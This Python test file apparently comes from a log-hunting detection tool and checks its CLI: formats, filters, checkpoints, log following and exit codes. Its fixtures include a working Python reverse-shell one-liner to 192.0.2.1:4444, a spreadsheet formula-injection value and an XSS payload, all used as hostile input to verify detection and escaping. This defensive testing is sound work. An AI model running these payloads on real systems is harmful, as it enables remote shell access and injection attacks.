"""``flycatcher hunt`` at the command line: inputs, limits, outputs, checkpoints, following, exit codes."""

from __future__ import annotations

import bz2
import csv
import gzip
import json
import lzma
import os
import re
import signal
import socket
import subprocess
import sys
import time

import jsonschema
import pytest
from click.testing import CliRunner

from flycatcher.commands import cli
from flycatcher.commands.hunt.follow import Tail
from flycatcher.core.errors import FlycatcherError
from flycatcher.hunt import engine
from flycatcher.sinks.formats.timeline import asset, digest
from tests.commands.scan.sarif_schema import SCHEMA
from tests.hunt.helpers import event, written

LOUD = [
    "python3",
    "-c",
    "import socket,os;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);os.system('/bin/sh')",
]
QUIET = ["perl", "-e", "print 1"]


def log(*starts, first=1, **named):
    return "".join(
        line
        for serial, argv in enumerate(starts, first)
        for line in event(serial, argv, exe=f"/usr/bin/{argv[0]}", **named)
    )


def hunt(*words, code=0):
    result = CliRunner(catch_exceptions=True).invoke(cli, ["hunt", *map(str, words)])
    if isinstance(result.exception, FlycatcherError):
        assert result.exception.code == code
        return result
    assert result.exit_code == code, (result.output, result.exception)
    return result


def records(path):
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    return [row for row in rows if row["schema"] == "flycatcher.detection/1"], rows[-1]["summary"]


def report(folder, *words):
    path = folder / "report.jsonl"
    hunt(*words, "--format", "jsonl", "-o", path)
    return records(path)


def test_one_line_a_text_the_worst_first(tmp_path, capfd):
    path = written(tmp_path, log(QUIET, QUIET, LOUD, node="web1"))
    hunt(path)
    out = capfd.readouterr().out.splitlines()
    assert re.match(r"(critical|high) +python argument -c: import socket", out[0])
    assert out[2].split(None, 1) in (["none", "perl argument -e: print 1"], ["low", "perl argument -e: print 1"])
    assert out[3].startswith("    2 times, 2023-11-14T22:13:20 on web1 as 0")
    assert out[4].startswith("3 detections: 1 critical, 2 ")
    assert out[4].endswith("; 3 starts in 1 log")


def test_more_words_show_why_where_and_who(tmp_path, capfd):
    text = log(["nginx"], pid=5, ppid=1) + log(LOUD, first=2, ppid=5)
    hunt(written(tmp_path, text), "-v")
    out = capfd.readouterr().out
    assert f"    at: {tmp_path}/log:6" in out
    assert "    started by: nginx" in out
    assert "    risk: critical" in out


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lzma.compress])
def test_packed_logs_and_rotated_series_are_read_in_order(tmp_path, pack):
    whole = event(1, QUIET, exe="/usr/bin/perl", time=1700000000.0) + event(
        2, QUIET, exe="/usr/bin/perl", time=1700000500.0
    )
    # the first event's records lie in two files
    written(tmp_path, pack("".join(whole[:2]).encode()), "audit.log.2.gz")
    written(tmp_path, "".join(whole[2:7]), "audit.log.1")
    written(tmp_path, "".join(whole[7:]), "audit.log")
    found, summary = report(tmp_path, tmp_path)
    assert [each["execution"]["fidelity"]["time"][:19] for each in found] == [
        "2023-11-14T22:13:20",
        "2023-11-14T22:21:40",
    ]
    assert [each["execution"]["fidelity"]["log"] for each in found] == [
        f"{tmp_path}/audit.log.2.gz",
        f"{tmp_path}/audit.log.1",
    ]
    assert (summary["logs"], summary["incomplete"]) == (3, 0)


def test_folders_globs_and_stdin(tmp_path):
    (tmp_path / "deep").mkdir()
    written(tmp_path / "deep", log(QUIET), "a.log")
    assert len(report(tmp_path, tmp_path / "deep")[0]) == 1
    assert len(report(tmp_path, f"{tmp_path}/deep/*.log")[0]) == 1
    done = subprocess.run(
        [sys.executable, "-m", "flycatcher", "hunt", "-"], input=log(QUIET), capture_output=True, text=True, check=True
    )
    assert "1 detection" in done.stdout


def test_limits_of_time_host_and_user(tmp_path):
    text = log(QUIET, time=1700000000.0, node="a") + log(QUIET, first=9, time=1700100000.0, node="b")
    path = written(tmp_path, text)
    assert len(report(tmp_path, path, "--since", "2023-11-15")[0]) == 1
    assert len(report(tmp_path, path, "--until", "2023-11-15T00:00:00Z")[0]) == 1
    assert len(report(tmp_path, path, "--since", "1h")[0]) == 0
    assert len(report(tmp_path, path, "--host", "b")[0]) == 1
    assert len(report(tmp_path, path, "--user", "1000")[0]) == 2
    assert len(report(tmp_path, path, "--user", "somebody")[0]) == 0
    hunt(path, "--since", "yesterday-ish", code=2)


def test_exit_codes(tmp_path):
    path = written(tmp_path, log(LOUD))
    hunt(path, "--fail-on", "high", code=10)
    hunt(path, "--fail-on", "never", code=0)
    hunt(tmp_path / "missing", code=3)
    hunt(written(tmp_path, "no log at all\n" * 50, "text"), code=3)
    hunt(path, "--from", "nonsense", code=2)


def test_an_earlier_report_leaves_only_what_is_new(tmp_path):
    before, path = tmp_path / "before.jsonl", written(tmp_path, log(QUIET))
    hunt(path, "-o", before)
    written(tmp_path, log(QUIET, LOUD))
    found, summary = report(tmp_path, path, "--only-new", before)
    assert [each["interpreter"] for each in found] == ["python"]
    assert summary["known"] == 1


def test_a_checkpoint_reads_old_bytes_no_second_time_and_tells_nothing_twice(tmp_path):
    state, path = tmp_path / "state", written(tmp_path, log(QUIET), "audit.log")
    words = (path, "--checkpoint", state)
    assert len(report(tmp_path, *words)[0]) == 1
    assert report(tmp_path, *words)[1]["bytes"] == 0
    more = event(2, LOUD, exe="/usr/bin/python3")
    with path.open("a") as file:
        file.write("".join(more[:2]) + more[2][:20])  # torn: the writer is still at it
    first, _ = report(tmp_path, *words)
    with path.open("a") as file:
        file.write(more[2][20:] + "".join(more[3:]))
    second, summary = report(tmp_path, *words)
    assert [each["interpreter"] for each in (*first, *second)] == ["python"]
    assert summary["bytes"] < 2 * len("".join(more))
    path.rename(tmp_path / "audit.log.1")
    written(tmp_path, log(QUIET, first=20), "audit.log")
    found, _ = report(tmp_path, tmp_path, "--checkpoint", state)
    assert [each["execution"]["fidelity"]["log"] for each in found] == [f"{tmp_path}/audit.log"]


def test_several_processes_write_the_same_bytes(tmp_path):
    logs, earlier = tmp_path / "logs", tmp_path / "earlier.jsonl"
    for host in range(4):
        folder = logs / f"host{host}"
        folder.mkdir(parents=True)
        # the same numbers of processes on every host, a gap in the serial numbers of each, a record that is torn
        starts = "".join(log(["perl", "-e", f"print {n + host}"], first=n * 2, pid=n, ppid=n - 1) for n in range(1, 60))
        server = "".join(event(1, ["nginx"], exe="/usr/sbin/nginx", pid=30)) if host == 0 else ""
        written(folder, server + starts + log(LOUD, first=900, pid=31, ppid=30)[:-40], "audit.log")
    written(logs, '{"nothing": "known"}\n', "unknown.json")
    hunt(logs / "host1", "-o", earlier)
    for words in (
        ["--format", "jsonl"],
        ["--format", "json"],
        ["--format", "text", "-vv"],
        ["--format", "jsonl", "--only-new", earlier],
    ):
        one, several = (outputs(tmp_path, logs, *words, "--jobs", jobs) for jobs in (1, 3))
        assert b"print" in one[0]
        assert several == one


def outputs(folder, *words):
    out = folder / "out"
    result = hunt(*words, "-o", out)
    return out.read_bytes(), result.stderr_bytes


def test_several_processes_go_on_from_a_checkpoint_as_one_does(tmp_path):
    logs, found = tmp_path / "logs", {}
    logs.mkdir()
    for jobs in (1, 3):
        for name in ("a.log", "b.log"):
            written(logs, log(QUIET), name)
        words = (logs, "--checkpoint", tmp_path / f"state{jobs}", "--jobs", jobs, "--format", "jsonl")
        first = outputs(tmp_path, *words)
        for path in logs.iterdir():
            with path.open("a") as file:
                file.write(log(LOUD, first=2))
        found[jobs] = [first, outputs(tmp_path, *words)]
    assert b"python3" in found[1][1][0]
    assert found[3] == found[1]


def test_who_started_a_program_is_not_taken_from_another_log(tmp_path):
    written(tmp_path, "".join(event(1, ["nginx"], exe="/usr/sbin/nginx", pid=30)), "a.log")
    written(tmp_path, log(QUIET, pid=31, ppid=30), "b.log")
    (found,), _ = report(tmp_path, tmp_path / "a.log", tmp_path / "b.log")
    assert not found["execution"].get("ancestry")


def test_who_started_a_program_is_not_taken_from_another_log_with_a_checkpoint_either(tmp_path):
    written(tmp_path, "".join(event(1, ["nginx"], exe="/usr/sbin/nginx", pid=30)), "a.log")
    written(tmp_path, log(QUIET, pid=31, ppid=30), "b.log")
    (found,), _ = report(tmp_path, tmp_path / "a.log", tmp_path / "b.log", "--checkpoint", tmp_path / "state")
    assert not found["execution"].get("ancestry")


def follow(path, *words):
    command = [sys.executable, "-m", "flycatcher", "hunt", "--follow", path, *words]
    return subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def until(condition):
    end = time.monotonic() + 60
    while not condition():
        assert time.monotonic() < end
        time.sleep(0.05)


def test_a_log_that_is_rotated_is_followed(tmp_path):
    path, out = written(tmp_path, log(QUIET), "audit.log"), tmp_path / "out.jsonl"
    with follow(path, "--format", "jsonl", "-o", out) as process:
        try:
            until(lambda: out.exists() and out.read_text().count("flycatcher.detection/1") == 1)
            with path.open("a") as file:
                file.write(log(LOUD, first=2))
            path.rename(tmp_path / "audit.log.1")
            written(tmp_path, log(QUIET, first=30), "audit.log")
            until(lambda: out.read_text().count("flycatcher.detection/1") == 3)
        finally:
            process.send_signal(signal.SIGTERM)
        process.communicate(timeout=60)
    assert process.returncode == 0
    assert [each["interpreter"] for each in records(out)[0]] == ["perl", "python", "perl"]


def test_tables_hold_one_row_a_detection_and_no_formula(tmp_path):
    out = tmp_path / "out.csv"
    hunt(written(tmp_path, log(["perl", "-e", "=cmd|' /c calc'!A1"])), "-o", out)
    (row,) = csv.DictReader(out.read_text().splitlines())
    assert row["text"] == "'=cmd|' /c calc'!A1"
    assert row["interpreter"] == "perl"


def test_parquet_holds_the_same_columns(tmp_path):
    parquet = pytest.importorskip("pyarrow.parquet")
    out = tmp_path / "out.parquet"
    hunt(written(tmp_path, log(QUIET, LOUD)), "-o", out)
    rows = parquet.read_table(out).to_pylist()
    assert [row["interpreter"] for row in rows] == ["perl", "python"]
    assert rows[1]["score"] >= 80


def test_the_timeline_runs_no_text_of_a_log(tmp_path):
    out = tmp_path / "out.html"
    evil = "print '</script><script>alert(1)</script><img src=x onerror=alert(2)>\u2028'"
    hunt(written(tmp_path, log(["perl", "-e", evil])), "-o", out)
    page = out.read_text()
    assert page.count("<script") == 3
    assert "<img" not in page
    assert "alert(1)" in page  # as data
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1]
    assert policy.startswith(
        f"default-src 'none'; script-src '{digest(asset('timeline.js'))}'; style-src '{digest(asset('timeline.css'))}'"
    )
    assert "http" not in asset("timeline.js")
    assert ".innerHTML" not in asset("timeline.js")
    data = json.loads(re.search(r'id="records">(.*?)</script>', page, re.DOTALL)[1])
    assert data[0]["text"] == evil.replace("\u2028", "\\u2028")


def test_sarif_is_valid(tmp_path):
    out = tmp_path / "out.sarif"
    hunt(written(tmp_path, log(LOUD)), "-o", out)
    document = json.loads(out.read_text())
    jsonschema.validate(document, SCHEMA)
    assert len(document["runs"][0]["results"]) == 1


def test_notices_say_what_the_log_has_lost(tmp_path):
    out = tmp_path / "out.jsonl"
    hunt(written(tmp_path, log(QUIET) + log(QUIET, first=11, node="")), "-o", out)
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    (notice,) = [row for row in rows if row["schema"] == "flycatcher.notice/1"]
    assert (notice["kind"], notice["place"], notice["count"]) == ("loss", "serial", 9)
    assert rows[-1]["summary"]["lost_by_place"] == {"serial": 9}


def test_what_the_configuration_accepts_is_not_reported(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    found, _ = report(tmp_path, written(tmp_path, log(QUIET)))
    (tmp_path / "flycatcher.toml").write_text(
        f'[[suppress]]\nfingerprint = "{found[0]["id"]}"\nreason = "known since the move"\nowner = "ops"\nuntil = 2099-01-01\n'
    )
    found, summary = report(tmp_path, tmp_path / "log")
    assert (summary["detections"], summary["suppressed"]) == (0, 1)
    assert found[0]["policy"]["action"] == "suppressed"


def test_explain_reads_the_report(tmp_path, capfd):
    report(tmp_path, written(tmp_path, log(LOUD)))
    capfd.readouterr()
    result = CliRunner().invoke(cli, ["explain", "--brief", str(tmp_path / "report.jsonl")])
    assert "python argument -c" in result.output
    assert os.environ.get("HOME") is not None


@pytest.mark.parametrize("more", [[], ["--checkpoint"]])
def test_pipes_sockets_and_devices_in_a_folder_are_not_waited_for_and_said(tmp_path, capfd, more):
    folder = tmp_path / "logs"
    folder.mkdir()
    written(folder, log(LOUD))
    os.mkfifo(folder / "pipe")
    (folder / "null").symlink_to("/dev/zero")
    (folder / "gone").symlink_to(folder / "nowhere")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(folder / "socket"))
        result = hunt(folder, *more, *([tmp_path / "state"] if more else []))
    assert "1 detection" in capfd.readouterr().out
    for name, why in (
        ("pipe", "no regular file"),
        ("null", "no regular file"),
        ("socket", "no regular file"),
        ("gone", "No such file"),
    ):
        assert re.search(rf"{name}: {why}", result.stderr), result.stderr


def test_a_pipe_that_is_to_be_followed_is_refused_once(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    own = engine.Hunt(engine.Options())
    tail = Tail(str(tmp_path / "pipe"), own)
    said = [each.text for _ in range(3) for each in (*tail.look(), *own.said())]
    assert said == [f"{tmp_path}/pipe: no regular file: not read"]
